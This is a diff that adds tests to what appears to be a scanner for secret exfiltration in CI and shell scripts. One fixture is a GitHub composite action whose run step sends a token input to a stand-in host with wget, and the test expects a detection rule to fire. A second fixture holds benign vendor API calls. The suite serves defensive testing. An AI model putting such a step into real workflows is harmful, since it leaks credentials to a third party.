@@ -237,3 +237,17 @@ describe("across two scripts, and encodings held in variables", () => {
     expect(["pass", "flagged"]).toContain(s.decision);
   });
 });
+
+describe("secrets a CI step or a quoted string holds", () => {
+  it("a composite action's token input sent to another host from its run step", () => {
+    const s = scanOf({ "action.yml": "name: notify\ninputs:\n  api-token: { required: true }\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n        NOTIFY_TOKEN: ${{ inputs.api-token }}\n      run: |\n        wget -qO- \"https://ci-notify.example/n?k=${NOTIFY_TOKEN}&sha=${{ github.sha }}\"\n" });
+    expect(rules(s)).toContain("SR-EXFIL-009");
+  });
+  it("honest: a token sent to its own vendor inside a quoted header, a Datadog key to Datadog", () => {
+    const s = scanOf({
+      "scripts/gl.sh": '#!/bin/bash\ncurl -fsS -H "PRIVATE-TOKEN: $GITLAB_TOKEN" "https://gitlab.com/api/v4/projects"\n',
+      "scripts/dd.sh": '#!/bin/bash\ncurl -fsS -X POST "https://api.datadoghq.com/api/v1/series" -H "DD-API-KEY: ${DD_API_KEY:?}" -d @metrics.json\n',
+    });
+    expect(["pass", "flagged"]).toContain(s.decision);
+  });
+});
